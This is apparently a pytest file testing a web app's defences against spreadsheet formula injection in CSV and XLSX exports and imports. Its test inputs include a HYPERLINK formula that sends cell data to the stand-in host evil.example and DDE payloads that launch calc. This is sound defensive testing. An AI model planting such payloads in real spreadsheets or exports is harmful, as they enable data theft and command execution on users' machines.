"""Hostile text exports inert (CSV and XLSX), numbers stay numbers, control characters never 500."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.models import Role
from app.services import data_export, exports
from app.services.cell_safety import clean_text, defuse, undo_defuse
from app.services.imports import import_file, import_rows
from tests.factories import make_company, make_customer, make_user
from tests.support.web import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
    "=1+1",
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Loja\x01 Um",
    "Mercado\x1f Dois",
    "Bar\x00\x7f\x85 Três",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(raw: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _assert_inert_csv_cell(cell: str) -> None:
    assert not cell.startswith(FORMULA_STARTS), repr(cell)
    assert clean_text(cell) == cell, repr(cell)


def test_writers_neutralise_every_hostile_text_but_keep_numbers():
    """Tests each hostile string through both writers, read back with csv and openpyxl."""
    rows = [[text, Decimal("-12.50"), -3, -0.5] for text in HOSTILE]
    header = ["name", "balance", "units", "ratio"]
    for decimal_comma in (True, False):
        cells = _csv_cells(
            exports.to_csv(header, rows, decimal_comma=decimal_comma),
            ";" if decimal_comma else ",",
        )[1:]
        assert len(cells) == len(HOSTILE)
        for text, (name, balance, units, ratio) in zip(HOSTILE, cells, strict=True):
            _assert_inert_csv_cell(name)
            assert name == defuse(text)
            assert undo_defuse(name) == clean_text(text)
            # Numbers are not text: a real negative stays a number a spreadsheet sums.
            assert (balance, units) == (("-12,50", "-3") if decimal_comma else ("-12.50", "-3"))
            assert ratio in ("-0,50", "-0.50")

    book = load_workbook(io.BytesIO(exports.to_xlsx(header, rows)))
    sheet = book.active
    for text, row in zip(HOSTILE, sheet.iter_rows(min_row=2), strict=True):
        name, balance, units, ratio = row
        assert name.data_type == "s", (text, name.data_type)  # never "f" (formula)
        # XML reads a carriage return back as a line feed; the cell is text either way.
        assert name.value == clean_text(text).replace("\r", "\n")
        if name.value.startswith(FORMULA_STARTS):
            assert name.quotePrefix  # Excel's own "typed with a leading quote" flag
        assert (balance.data_type, balance.value) == ("n", -12.5)
        assert (units.value, ratio.value) == (-3, -0.5)


def test_xlsx_formula_cells_are_stored_as_strings():
    """Tests the raw sheet XML: no <f> element anywhere, whatever the text."""
    import zipfile

    raw = exports.to_xlsx(["name"], [[text] for text in HOSTILE])
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet


def test_import_strips_controls_and_reads_our_quote_back(db_session):
    """Tests the boundary: controls gone from files and API bodies; `'=x` from a file is `=x`."""
    company = make_company()
    header = "Código;Razão social;Nome fantasia\r\n"
    body = header + "K1;'=1+1;Loja\x01 Um\r\nK2;'-Loja;'@casa\r\n"
    result = import_file(
        kind="customers",
        raw=body.encode("utf-8"),
        filename="c.csv",
        company_id=company.id,
        actor_id=None,
        dry_run=False,
    )
    assert result.problems == []
    api = import_rows(
        kind="customers",
        rows=[{"erp_code": "K3", "legal_name": "Bar\x1f Três\x00", "trade_name": "'=já"}],
        company_id=company.id,
        actor_id=None,
    )
    assert api.problems == []
    db.session.flush()
    from app.models import Customer

    names = {
        c.erp_code: (c.legal_name, c.trade_name)
        for c in db.session.query(Customer).filter_by(company_id=company.id)
    }
    assert names == {
        "K1": ("=1+1", "Loja Um"),
        "K2": ("-Loja", "@casa"),
        # JSON is not a spreadsheet: its quote is the caller's own text.
        "K3": ("Bar Três", "'=já"),
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_customers_export_inert_and_round_trip(db_session, fmt):
    """Tests the company export of hostile names: inert cells, and importing it back
    changes nothing."""
    company = make_company()
    rep = make_user(company, Role.REP)
    # Names as stored before this boundary existed: controls included, but no NUL
    # (PostgreSQL text cannot hold one).
    stored = [text.replace("\x00", "") for text in HOSTILE]
    for i, text in enumerate(stored):
        make_customer(company, rep, erp_code=f"H{i:02d}", legal_name=text, trade_name=text)
    raw = data_export.export_kind(kind="customers", company_id=company.id, fmt=fmt)
    if fmt == "csv":
        header, *rows = _csv_cells(raw)
        names = [row[header.index("Razão social")] for row in rows]
        for name in names:
            _assert_inert_csv_cell(name)
    else:
        sheet = load_workbook(io.BytesIO(raw)).active
        header = [c.value for c in sheet[1]]
        column = header.index("Razão social")
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)
        # XML reads a carriage return back as a line feed; the cell is text either way.
        names = [c.value.replace("\n", "\r") for c in cells]
    assert sorted(undo_defuse(n) for n in names) == sorted(clean_text(t) for t in stored)
    back = import_file(
        kind="customers",
        raw=raw,
        filename=f"back.{fmt}",
        company_id=company.id,
        actor_id=None,
        dry_run=True,
    )
    assert back.problems == []
    changed = {c.code for c in back.changes.rows}
    # Only names with control characters or edge spaces change (an import trims and cleans).
    assert changed == {f"H{i:02d}" for i, t in enumerate(stored) if clean_text(t).strip() != t}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_pages_answer_with_a_control_character_in_a_name(client, db_session, fmt):
    """Tests the admin export and the supervisor list export over HTTP: 200, inert, never 500."""
    company = make_company()
    admin = make_user(company, Role.ADMIN)
    rep = make_user(company, Role.REP)
    make_customer(company, rep, legal_name="Loja\x01 =Um", trade_name='=HYPERLINK("x")')
    login(client, admin.email)
    answer = client.get(f"/admin/importacao/exportar/customers.{fmt}")
    assert answer.status_code == 200
    if fmt == "csv":
        text = answer.get_data().decode("utf-8-sig")
        assert "\x01" not in text
        assert "'=HYPERLINK" in text
    else:
        sheet = load_workbook(io.BytesIO(answer.get_data())).active
        values = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
        assert "Loja =Um" in values
        assert '=HYPERLINK("x")' in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_supervisor_list_export_with_hostile_names(client, db_session, fmt):
    """Tests the supervisor's list download: a formula and a control character in a name, inert."""
    company = make_company()
    admin = make_user(company, Role.ADMIN)
    rep = make_user(company, Role.REP)
    make_customer(company, rep, trade_name="=1+1\x01", legal_name="-Loja")
    login(client, admin.email)
    answer = client.get(f"/supervisor/clientes?list=all&format={fmt}")
    assert answer.status_code == 200
    if fmt == "csv":
        cells = [c for row in _csv_cells(answer.get_data())[1:] for c in row]
        assert "'=1+1" in cells
        for cell in cells:
            if cell and not cell[0].isdigit():
                _assert_inert_csv_cell(cell)
    else:
        sheet = load_workbook(io.BytesIO(answer.get_data())).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert "=1+1" in [c.value for c in cells]
